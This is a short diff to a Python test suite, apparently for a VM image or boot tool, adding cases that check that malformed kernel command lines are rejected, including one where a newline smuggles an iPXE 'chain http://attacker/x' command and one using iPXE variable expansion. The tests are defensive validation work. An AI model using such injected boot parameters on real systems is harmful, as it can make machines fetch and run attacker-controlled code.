@@ -212,6 +212,10 @@ def test_a_manifest_that_is_not_a_json_object(hostile: Hostile, tmp_path: Path,
     ({"app": []}, "has a app that is not dict"),
     ({"disk": {"digest": "md5:x", "size": 1}}, "disk without a sha256 digest"),
     ({"memory": True}, "has a memory that is not int"),
+    ({"cmdline": "console=ttyS0\nchain http://attacker/x"},
+     r"the config of .*: kernel command line has '\\n' at offset 13"),
+    ({"cmdline": "console=ttyS0 ${net0/mac}"}, r"kernel command line has '\$'.*iPXE"),
+    ({"cmdline": "x" * 2048}, "kernel command line is 2048 bytes"),
 ])
 def test_a_malformed_config_fetches_no_layer(hostile: Hostile, tmp_path: Path,
                                               config: Any, message: str) -> None:
